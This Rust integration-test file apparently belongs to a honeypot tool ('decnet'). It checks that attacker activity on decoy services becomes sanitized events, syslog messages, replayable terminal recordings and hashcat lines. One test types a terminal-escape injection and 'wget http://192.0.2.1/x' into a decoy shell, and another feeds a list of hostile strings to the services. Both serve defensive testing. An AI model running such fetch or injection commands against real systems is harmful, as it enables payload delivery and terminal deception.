//! Events: recorded, filtered, followed, rotated, forwarded, and never a way into a terminal or a log.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::process::Stdio;
use std::time::Duration;

use serde_json::Value;

use crate::common::hostile::HOSTILE;
use crate::common::{World, eventually, tool};

fn deployed(general: &str) -> World {
    let world = World::new();
    let text = format!(
        "{}{general}\n[a]\nservices = redis,http\n[b]\nservices = redis\n",
        world.general().trim_end()
    );
    let file = world.write("f.ini", text.replace("\n\n", "\n"));
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    world
}

fn decky_ip(world: &World, name: &str) -> String {
    world.json(0, &["list", name])["deckies"][0]["ip"].as_str().unwrap().to_owned()
}

fn talk(world: &World, name: &str, port: u16, bytes: &[u8]) -> Vec<u8> {
    let mut stream = TcpStream::connect((decky_ip(world, name), world.offset + port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    stream.write_all(bytes).unwrap();
    let mut answer = vec![0u8; 4096];
    let got = stream.read(&mut answer).unwrap_or(0);
    answer.truncate(got);
    answer
}

fn events(world: &World, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["events", "-o", "json"];
    all.extend(args);
    world.run(&all).ok().lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

#[test]
fn every_touch_is_an_event_with_the_promised_fields() {
    let world = deployed("");
    drop(TcpStream::connect((decky_ip(&world, "b"), world.offset + 6379)).unwrap());
    let touch =
        eventually("the bare connection", || events(&world, &["--decky", "b", "--kind", "connection"]).pop());
    for field in
        ["@timestamp", "sequence", "decky", "service", "kind", "action", "source", "destination", "session"]
    {
        assert!(touch.get(field).is_some(), "{field}: {touch}");
    }
    assert_eq!((&touch["decky"], &touch["service"]), (&"b".into(), &"redis".into()));
    assert_eq!(touch["source"]["ip"], "127.0.0.1");
    assert_eq!(touch["destination"]["port"], u64::from(world.offset + 6379));
    let time = touch["@timestamp"].as_str().unwrap();
    assert!(time.ends_with('Z') && time.len() == "2026-11-23T15:00:00.000000Z".len(), "{time}");
    eventually("the end of the session", || events(&world, &["--decky", "b", "--kind", "session"]).pop());
    // The operator's name of a decky never reaches the wire.
    let answer = String::from_utf8_lossy(&talk(&world, "a", 80, b"GET / HTTP/1.0\r\n\r\n")).into_owned();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
}

#[test]
fn filters_narrow_and_follow_follows() {
    let world = deployed("");
    let mut follower = world
        .command(["events", "-f", "-o", "json", "--kind", "command", "--decky", "a"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(follower.stdout.take().unwrap()).lines();
    talk(&world, "b", 6379, b"PING\r\n");
    talk(&world, "a", 6379, b"SET follow me\r\n");
    let line: Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
    follower.kill().unwrap();
    follower.wait().unwrap();
    assert_eq!((&line["decky"], &line["action"]), (&"a".into(), &"set".into()));
    let kinds = |args: &[&str]| events(&world, args).len();
    assert!(kinds(&["--service", "redis"]) > 0);
    assert_eq!(kinds(&["--service", "ssh"]), 0);
    assert!(kinds(&["--src", "127.0.0.0/8"]) > 0);
    assert_eq!(kinds(&["--src", "10.0.0.0/8"]), 0);
    assert!(kinds(&["--since", "10m"]) > 0);
    assert_eq!(kinds(&["--since", "2999-01-01T00:00:00Z"]), 0);
    assert_eq!(kinds(&["-n", "1"]), 1);
    world.run(&["events", "--kind", "nonsense"]).code(2).err.clear();
    let table = world.run(&["events", "--decky", "a"]).ok();
    assert!(table.contains("SET follow me") || table.contains("follow"), "{table}");
}

/// Sends each piece, then waits a moment for an answer to it.
fn say(ip: &str, port: u16, pieces: &[&[u8]]) {
    let mut stream = TcpStream::connect((ip, port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
    let mut got = vec![0u8; 8192];
    for piece in pieces {
        if stream.write_all(piece).is_err() {
            break;
        }
        let _ = stream.read(&mut got);
    }
}

/// Logs in over telnet as a client without options, then types each line once the prompt is there.
fn type_over_telnet(ip: &str, port: u16, lines: &[Vec<u8>]) {
    let mut stream = TcpStream::connect((ip, port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let until = |end: &[u8], stream: &mut TcpStream| {
        let (mut all, mut got) = (Vec::new(), [0u8; 4096]);
        while !all.windows(end.len()).any(|w| w == end) {
            match stream.read(&mut got) {
                Ok(n) if n > 0 => all.extend_from_slice(&got[..n]),
                _ => return,
            }
        }
    };
    until(b"login: ", &mut stream);
    stream.write_all(b"root\r\n").unwrap();
    until(b"Password: ", &mut stream);
    stream.write_all(b"x\r\n").unwrap();
    until(b"# ", &mut stream);
    for line in lines {
        stream.write_all(&[line, &b"\r\n"[..]].concat()).unwrap();
        until(b"# ", &mut stream);
    }
    stream.write_all(b"\x03exit\r\n").unwrap();
    until(b"never", &mut stream);
}

fn command(words: &[&[u8]]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", words.len()).into_bytes();
    for word in words {
        out.extend_from_slice(format!("${}\r\n", word.len()).as_bytes());
        out.extend_from_slice(word);
        out.extend_from_slice(b"\r\n");
    }
    out
}

fn raw(event: &Value, name: &str) -> Vec<u8> {
    use base64::Engine as _;
    match event[format!("{name}_b64")].as_str() {
        Some(text) => base64::engine::general_purpose::STANDARD.decode(text).unwrap(),
        None => event[name].as_str().unwrap_or_default().as_bytes().to_vec(),
    }
}

#[test]
fn hostile_strings_reach_neither_terminal_nor_line_nor_log() {
    assert!(HOSTILE.len() >= 100);
    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver.set_read_timeout(Some(Duration::from_millis(1500))).unwrap();
    let world = World::new();
    let target = receiver.local_addr().unwrap().port();
    // A decky a service: each source has so many events a minute at each.
    let file = world.fleet(
        "f.ini",
        "[r]\nservices = redis\n[h]\nservices = http\n[f]\nservices = ftp\n[t]\nservices = telnet\n[t.telnet]\naccept = all\n",
    );
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text.replacen("[general]\n", &format!("[general]\nlog_target = udp://127.0.0.1:{target}\n"), 1),
    )
    .unwrap();
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    let log = std::thread::spawn(move || {
        let mut buffer = vec![0u8; 65_536];
        let mut messages = 0;
        while let Ok(got) = receiver.recv(&mut buffer) {
            let message = &buffer[..got];
            assert!(
                message.iter().all(|b| matches!(b, b' '..=b'~')),
                "{:?}",
                String::from_utf8_lossy(message)
            );
            let text = String::from_utf8_lossy(message).into_owned();
            let parsed = syslog_loose::parse_message(&text, syslog_loose::Variant::RFC5424);
            assert!(["r", "h", "f", "t"].contains(&parsed.hostname.unwrap()), "{text}");
            assert_eq!(parsed.structured_data.len(), 1, "{text}");
            messages += 1;
        }
        messages
    });
    let at = |name: &str| decky_ip(&world, name);
    let (r, h, f, t) = (at("r"), at("h"), at("f"), at("t"));
    let off = world.offset;
    let redis = |text: &[u8]| {
        say(&r, off + 6379, &[&command(&[b"AUTH", text, text]), &command(&[b"SET", text, text])]);
    };
    let http = |text: &[u8]| {
        use base64::Engine as _;
        let basic = base64::engine::general_purpose::STANDARD.encode([b"u:", text].concat());
        let head =
            [b"GET /", text, b"?q=", text, b" HTTP/1.1\r\nHost: ", text, b"\r\nUser-Agent: ", text].concat();
        let tail = format!("\r\nAuthorization: Basic {basic}\r\nConnection: close\r\n\r\n");
        say(&h, off + 80, &[&[head, tail.clone().into_bytes()].concat()]);
        // The same where it cannot break the request.
        say(&h, off + 80, &[format!("GET / HTTP/1.1\r\nHost: x{tail}").as_bytes()]);
    };
    let ftp = |text: &[u8]| {
        let line = |word: &[u8]| [word, b" ", text, b"\r\n"].concat();
        say(&f, off + 21, &[&line(b"USER"), &line(b"PASS"), &line(b"RETR"), &line(b"STOR")]);
    };
    std::thread::scope(|scope| {
        for part in HOSTILE.chunks(16) {
            scope.spawn(|| part.iter().for_each(|text| redis(text)));
            scope.spawn(|| part.iter().for_each(|text| http(text)));
            scope.spawn(|| part.iter().for_each(|text| ftp(text)));
        }
        scope.spawn(|| {
            // One login, then each string as a command: recorded, and echoed into the recording. A line that
            // leaves a quote open makes the prompt another one: no such line here.
            let quotes = |text: &&&[u8]| !text.iter().any(|b| b"'\"`($\\\n\r<\x03\x04\x15".contains(b));
            let lines: Vec<Vec<u8>> =
                HOSTILE.iter().filter(quotes).map(|text| [b"echo ", *text].concat()).collect();
            type_over_telnet(&t, off + 23, &lines);
        });
    });
    let messages = log.join().unwrap();
    let all = world.clean_events();
    assert!(messages > all.len() / 2, "{messages} messages of {} events", all.len());
    // And every one is there, byte by byte.
    let of = |service: &str, kind: &str, name: &str| -> Vec<Vec<u8>> {
        all.iter().filter(|e| e["service"] == service && e["kind"] == kind).map(|e| raw(e, name)).collect()
    };
    let (users, secrets, basic) =
        (of("redis", "login", "user"), of("redis", "login", "secret"), of("http", "login", "secret"));
    for text in HOSTILE {
        let shown = String::from_utf8_lossy(text);
        assert!(users.iter().any(|user| user == text), "{shown:?}");
        assert!(secrets.iter().any(|secret| secret == text), "{shown:?}");
        assert!(basic.iter().any(|secret| secret == text), "{shown:?}");
    }
}

#[test]
fn a_terminal_session_is_recorded_and_replayed() {
    let world = World::new();
    let file = world.fleet("f.ini", "[t]\nservices = telnet\n[t.telnet]\naccept = all\n");
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    let ip = decky_ip(&world, "t");
    let typed = ["id", "printf '\\033]0;owned\\007'; wget http://192.0.2.1/x"].map(|l| l.as_bytes().to_vec());
    type_over_telnet(&ip, world.offset + 23, &typed);
    let shell = eventually("the recording", || {
        events(&world, &["--kind", "request"]).into_iter().find(|e| e["recording"]["id"].is_string())
    });
    let id = shell["recording"]["id"].as_str().unwrap();
    let cast = eventually("its end", || {
        Some(world.run(&["events", "--replay", id]).ok())
            .filter(|text| text.contains("Network is unreachable"))
    });
    let mut lines = cast.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let header = lines.next().unwrap();
    assert_eq!((&header["version"], &header["decnet"]["decky"]), (&2.into(), &"t".into()));
    let shown: String = lines.filter(|l| l[1] == "o").map(|l| l[2].as_str().unwrap().to_owned()).collect();
    assert!(shown.contains("uid=0(root)") && shown.contains("\u{1b}]0;owned\u{7}"), "{shown:?}");
    // On a terminal it may only draw.
    let command = format!("{} events --replay {} --speed 1000", env!("CARGO_BIN_EXE_decnet"), &id[..8]);
    let mut script = tool("script");
    script.args(["-qec", &command, "/dev/null"]).env("DECNET_STATE_DIR", world.state()).stdin(Stdio::null());
    let played = script.output().unwrap();
    assert!(played.status.success());
    let played = String::from_utf8_lossy(&played.stdout).into_owned();
    assert!(played.contains("uid=0(root)") && !played.contains("owned\u{7}"), "{played:?}");
    let table = world.run(&["events", "--kind", "request"]).ok();
    assert!(table.contains(&format!("recording {id}")), "{table}");
    let fetch = events(&world, &["--kind", "file"]).pop().unwrap();
    assert_eq!(
        (&fetch["action"], &fetch["url"]["original"]),
        (&"fetch".into(), &"http://192.0.2.1/x".into())
    );
    world.run(&["events", "--replay", "ffffffffffffffff"]).code(1).err.clear();
    world.run(&["events", "--replay", id, "--kind", "login"]).code(2).err.clear();
    world.run(&["events", "--replay", id, "--speed", "0"]).code(2).err.clear();
}

#[test]
fn logins_are_printed_for_hashcat() {
    let world = World::new();
    let file = world.fleet("f.ini", "[m]\nservices = mysql,redis\n[m.mysql]\nversion = 10.11.6-MariaDB\n");
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    let ip = decky_ip(&world, "m");
    say(&ip, world.offset + 6379, &[b"AUTH clear\r\n"]);
    let mut mysql = tool("mysql");
    mysql.args([
        "-h",
        &ip,
        "-P",
        &(world.offset + 3306).to_string(),
        "-uroot",
        "-phunter2",
        "-e",
        "select 1",
    ]);
    assert!(!mysql.output().unwrap().status.success());
    let line = eventually("the login", || {
        let ran = world.run(&["events", "-o", "hashcat"]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        let both = ran.err.contains("1 login with") && ran.err.contains("mode 11200: 1 line");
        Some(ran.out).filter(|_| both)
    });
    let parts: Vec<&str> = line.trim_end().strip_prefix("$mysqlna$").unwrap().split('*').collect();
    assert!(parts.len() == 2 && parts.iter().all(|p| p.len() == 40 && hex::decode(p).is_ok()), "{line}");
    assert_eq!(world.run(&["events", "-o", "hashcat", "--hash-mode", "11200"]).ok(), line);
    assert_eq!(world.run(&["events", "-o", "hashcat", "--hash-mode", "5600"]).ok(), "");
    world.run(&["events", "--hash-mode", "11200"]).code(2).err.clear();
    world.run(&["list", "-o", "hashcat"]).code(2).err.clear();
}

#[test]
fn events_are_forwarded_as_rfc_5424_by_udp() {
    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let world =
        deployed(&format!("\nlog_target = udp://127.0.0.1:{}", receiver.local_addr().unwrap().port()));
    talk(&world, "b", 6379, b"AUTH hunter2\r\n");
    let mut buffer = [0u8; 65_536];
    loop {
        let got = receiver.recv(&mut buffer).expect("a syslog message");
        let text = String::from_utf8(buffer[..got].to_vec()).unwrap();
        let message = syslog_loose::parse_message(&text, syslog_loose::Variant::RFC5424);
        assert_eq!(message.hostname, Some("b"), "{text}");
        assert_eq!(message.appname, Some("redis"), "{text}");
        if text.contains("hunter2") {
            assert!(text.contains("src_ip=\"127.0.0.1\""), "{text}");
            break;
        }
    }
}

#[test]
fn events_are_forwarded_as_rfc_5424_by_tcp() {
    let receiver = TcpListener::bind("127.0.0.1:0").unwrap();
    let world =
        deployed(&format!("\nlog_target = tcp://127.0.0.1:{}", receiver.local_addr().unwrap().port()));
    talk(&world, "b", 6379, b"PING\r\n");
    let (stream, _) = receiver.accept().unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut reader = BufReader::new(stream);
    // Octet counting: a length, a blank, so many bytes.
    let mut length = Vec::new();
    reader.read_until(b' ', &mut length).unwrap();
    let length: usize = String::from_utf8(length).unwrap().trim().parse().unwrap();
    let mut message = vec![0u8; length];
    reader.read_exact(&mut message).unwrap();
    assert!(String::from_utf8(message).unwrap().starts_with("<134>1 "));
}

#[test]
fn events_survive_the_engine() {
    let world = deployed("");
    talk(&world, "b", 6379, b"PING\r\n");
    let before = eventually("an event", || events(&world, &["--kind", "command"]).pop());
    world.run(&["engine", "stop"]).ok();
    world.run(&["reconcile"]).ok();
    talk(&world, "b", 6379, b"ECHO again\r\n");
    let after = eventually("another event", || {
        events(&world, &["--kind", "command"]).into_iter().find(|e| e["action"] == "echo")
    });
    assert!(after["sequence"].as_u64() > before["sequence"].as_u64(), "{before}\n{after}");
}

#[test]
fn events_are_written_where_recordings_cannot_be() {
    let world = World::new();
    std::fs::create_dir_all(world.state().join("events")).unwrap();
    std::fs::write(world.state().join("events/sessions"), "in the way").unwrap();
    for dir in [world.state(), world.state().join("events")] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    let file = world.fleet("f.ini", "[t]\nservices = telnet\n[t.telnet]\naccept = all\n");
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    type_over_telnet(&decky_ip(&world, "t"), world.offset + 23, &[b"id".to_vec()]);
    eventually("the command", || events(&world, &["--kind", "command"]).pop());
    assert!(world.run(&["events", "--kind", "request"]).ok().contains("(not kept)"));
}
